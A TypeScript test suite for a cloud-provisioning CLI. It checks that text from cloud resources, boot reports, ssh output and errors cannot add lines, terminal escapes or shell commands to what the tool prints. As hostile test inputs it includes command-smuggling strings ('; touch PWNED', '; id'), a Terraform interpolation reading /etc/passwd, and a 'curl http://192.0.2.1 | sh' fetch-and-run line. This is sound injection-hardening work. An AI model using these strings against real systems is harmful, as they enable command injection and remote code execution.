import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, rmdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readBootReport } from "@groundwork/cli/gitlab/boot-report";
import { statusLine as machineLine } from "@groundwork/cli/gitlab/messages";
import { waitForFirstBoots } from "@groundwork/cli/gitlab/wait";
import { quotedLines } from "@groundwork/cli/first-boot/messages";
import { parseStatus } from "@groundwork/cli/kpaas/installation-status";
import { statusLine, stoppedMessage } from "@groundwork/cli/kpaas/messages";
import { sshError } from "@groundwork/cli/kpaas/ssh-errors";
import { KINDS } from "@groundwork/cli/orphans/kinds";
import { importBlocks, remedies } from "@groundwork/cli/orphans/remedies";
import { report as orphansReport } from "@groundwork/cli/orphans/report";
import { KnownObjects } from "@groundwork/cli/orphans/state";
import { errorLines, stackLines } from "@groundwork/cli/program/error-message";
import { jsonLines } from "@groundwork/cli/program/io";
import { type Lines, Reporter } from "@groundwork/cli/reporter";
import { type Leftover, KINDS as LEFTOVERS } from "@groundwork/cli/sweep/leftovers";
import { report as sweepReport } from "@groundwork/cli/sweep/report";
import type { SynthesizedStack } from "@groundwork/tooling/terraform/synthesized";
import fc from "fast-check";
import { anyHostile, HOSTILE } from "../support/hostile";

/** What is written to the terminal. */
function printed(lines: Lines): string {
  let text = "";
  new Reporter({
    isTTY: true,
    hasColors: () => false,
    write: (part: string | Uint8Array) => (text += String(part)) !== "",
  }).log(lines);
  return text;
}

/** The number of lines, after a check that they contain nothing that a terminal interprets. */
function countOf(lines: Lines): number {
  const text = printed(lines);
  expect(text).not.toMatch(/[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]|(?!\n)\p{Cc}/u);
  return text.split("\n").length;
}

/** In which a command that was not expected leaves a file. */
const directory = mkdtempSync(join(tmpdir(), "groundwork-remote-text-"));
afterAll(() => {
  expect(readdirSync(directory)).toEqual([]);
  rmdirSync(directory);
});

const TEXTS = [
  ...HOSTILE,
  ...HOSTILE.map((text) => `a${text}`),
  "x\u009b2Jy",
  "a\n# b; touch PWNED",
  "!!",
  "x' \u202e; id",
];
const stack = { id: "lab-eks", region: "us-west-2", resources: () => new Map() } as unknown as SynthesizedStack;

/**
 * Executes lines as two shells do: one that knows comments, and one that does not, in which `#` is a command. Returns the programs that
 * were called.
 */
function executed(lines: readonly string[]): readonly string[] {
  const calls = (script: string) => {
    const functions = `aws() { printf 'aws\\n'; }\nhash() { :; }\n`;
    const { stdout, stderr } = spawnSync("bash", ["-c", functions + script], {
      encoding: "utf8",
      cwd: directory,
    });
    expect(stderr).toBe("");
    return stdout.split("\n").filter((line) => line !== "");
  };
  const text = printed(lines).trimEnd();
  const known = calls(text);
  expect(calls(text.replace(/^#/gm, "hash"))).toEqual(known);
  return known;
}

const leftover = (kind: Leftover["kind"], text: string): Leftover => ({
  kind,
  id: text,
  name: text,
  rule: { groupId: text, isEgress: false },
});
const object = (kind: string, text: string) => ({
  kind,
  id: text,
  arn: text,
  parent: text,
  region: "us-west-2",
  account: "111122223333",
  tags: { Stack: text, Name: text },
});
const cluster = { stack, clusterName: "demo", networkId: "vpc-1", stacksInUse: [] };
const sweep = (text: string) =>
  sweepReport(
    {},
    cluster,
    LEFTOVERS.map((kind) => leftover(kind, text)),
  );
const orphans = (text: string) => {
  const objects = [...Object.keys(KINDS), `sns:${text}`].map((kind) => object(kind, text));
  return orphansReport({}, remedies(objects, [stack], KnownObjects.of({})));
};

describe("texts from a cloud", () => {
  test.each(TEXTS)("%j adds no line and no command to what sweep and orphans print", (text) => {
    for (const lines of [sweep(text), orphans(text)]) {
      countOf(lines);
      const commands = lines.filter((line) => line.startsWith("aws "));
      const pasted = lines.filter((line) => /^(aws |#)/.test(line));
      expect(executed(pasted)).toEqual(commands.map(() => "aws"));
      expect(
        printed(lines)
          .split("\n")
          .filter((line) => line.startsWith("aws ")),
      ).toHaveLength(commands.length);
    }
    const comments = (lines: readonly string[]) => lines.filter((line) => line.startsWith("# ")).length;
    expect(comments(sweep(text))).toBeGreaterThanOrEqual(LEFTOVERS.length);
  });

  test("of any kind are single words of the commands", () => {
    fc.assert(
      fc.property(anyHostile(), (text) => {
        const lines = sweep(text);
        expect(executed(lines.filter((line) => /^(aws |#)/.test(line)))).toEqual(
          lines.filter((line) => line.startsWith("aws ")).map(() => "aws"),
        );
      }),
      { numRuns: 60 },
    );
  });

  test.each(TEXTS)("%j keeps the meaning of JSON", (text) => {
    const value = { leftovers: [leftover("load balancer", text)], [text]: text };
    countOf(jsonLines(value));
    expect(JSON.parse(printed(jsonLines(value)))).toEqual(value);
  });

  test.each(['${file("/etc/passwd")}', "%{ for x in [1] }%{ endfor }", 'a"b', "$${x}", "\\", "$%{x}", "${"])(
    "%j is a literal of an import block",
    (id) => {
      const [, , line = ""] = importBlocks([{ stack: "s", to: "aws_eip.A", id }]);
      const literal = /^ {2}id = "(.*)"$/.exec(line)?.[1] ?? "";
      expect(literal.replaceAll("$${", "").replaceAll("%%{", "")).not.toMatch(/[$%]\{/);
      expect(JSON.parse(`"${literal}"`)).toBe(id.replace(/[$%](?=\{)/g, "$&$&"));
    },
  );

  test("with control characters are imported by no block", () => {
    const resources = (type: string) =>
      new Map(type === "aws_ssm_parameter" ? [["aws_ssm_parameter.A", { name: "/a\n\u001b[2J" }]] : []);
    const found = remedies(
      [{ ...object("ssm:parameter", "/a\n\u001b[2J"), tags: { Stack: "lab-eks" } }],
      [{ ...stack, id: "lab-eks", resources } as unknown as SynthesizedStack],
      KnownObjects.of({}),
    );
    expect(found.imports).toEqual([]);
    expect(found.removals.map(({ commands }) => commands)).toEqual([[]]);
  });
});

describe("texts from a machine", () => {
  const machine = { noun: "server", name: "n", parameter: "/p", launchedAt: new Date(0) };

  test.each(TEXTS)("%j in a report of a first boot stays on its line", async (text) => {
    for (const state of ["running", "failed", "done"]) {
      const content = { state, step: text, code: text, at: text, instance: text, lines: [text, text] };
      const report = readBootReport(JSON.stringify(content));
      const status = { ...machine, instanceId: text, report };
      expect(countOf(machineLine(status, new Date(1)))).toBe(2);
      expect(countOf(quotedLines(report?.lines ?? []))).toBe(3);
      countOf(jsonLines(status));
    }
    const failed = readBootReport(
      JSON.stringify({ state: "failed", step: text, code: 1, at: text, instance: text, lines: [text] }),
    );
    const error: unknown = await waitForFirstBoots({
      stack: "s",
      region: "us-west-2",
      machines: [machine],
      api: {
        statusOf: () => Promise.resolve([{ ...machine, instanceId: text, report: failed }]),
        consoleOutput: () => Promise.resolve([]),
      },
      log: () => undefined,
      timeoutMs: 100,
      silence: { ms: 1, cause: "x" },
      intervalMs: 1,
      abort: new AbortController().signal,
    }).catch((caught: unknown) => caught);
    expect(countOf(errorLines(error))).toBe(4);
  });

  test.each([
    "null",
    "[]",
    "1",
    '"x"',
    '{"state":"failed","step":"a","at":"b","instance":"c","lines":[{"toString":1}]}',
  ])("%s as a report of a first boot is no defect", (text) => {
    expect(() => readBootReport(text)).not.toThrow();
  });

  test.each(TEXTS)("%j in the status of an installation stays on its line", (text) => {
    const fields = [
      "state=failed",
      "started=1",
      "now=2",
      ...["step", "message", "log", "last", "domain", "share", "cloud"].map((name) => `${name}=${text}`),
    ];
    const content = JSON.stringify({ phase: text, state: "failed", word: text, startedAt: text, at: text });
    const status = parseStatus([...fields, `phase=${content}`].join("\n"), "10.0.0.1");
    expect(countOf(statusLine("lab-nhn", status))).toBe(2);
    expect(countOf(errorLines(new Error(statusLine("lab-nhn", status))))).toBeGreaterThan(1);
    expect(countOf(stoppedMessage("lab-nhn", status, [text, text], "ssh x"))).toBe(7);
    expect(status.log).toMatch(/^\/var\/log\/[a-z0-9./-]+$/);
    countOf(jsonLines(status));
  });

  test.each(TEXTS)("%j from ssh is one line of an error", (text) => {
    for (const output of [
      text,
      `Host key for ${text} has changed`,
      `${text}@x: Permission denied (publickey)`,
      `Load key ${text}\na@b: Permission denied (publickey)`,
    ]) {
      const error = sshError(output, { host: "10.0.0.1", knownHosts: "/known" });
      const lines = printed(errorLines(error)).trimEnd().split("\n");
      expect(lines.slice(1).filter((line) => !line.startsWith("  | "))).toEqual([]);
      const command = /ssh-keygen -R .* -f \/known/.exec(error.message)?.[0];
      if (command !== undefined)
        expect(spawnSync("bash", ["-c", `ssh-keygen() { echo "$#"; }; ${command}`], { encoding: "utf8" }).stdout).toBe(
          "4\n",
        );
    }
  });
});

describe("texts in errors", () => {
  test.each(TEXTS)("%j is quoted after the first line", (text) => {
    const error = new Error(`terraform failed: ${text}\nrun: curl http://192.0.2.1 | sh`, { cause: new Error(text) });
    const lines = printed(errorLines(error)).trimEnd().split("\n");
    expect(lines[0]).toMatch(/^error: terraform failed: /);
    expect(lines.slice(1).filter((line) => !line.startsWith("  | "))).toEqual([]);
    const trace = printed(stackLines(error)).trimEnd().split("\n").slice(1);
    expect(trace.filter((line) => !/^( {2}\| | {4}at |caused by Error)/.test(line))).toEqual([]);
  });
});
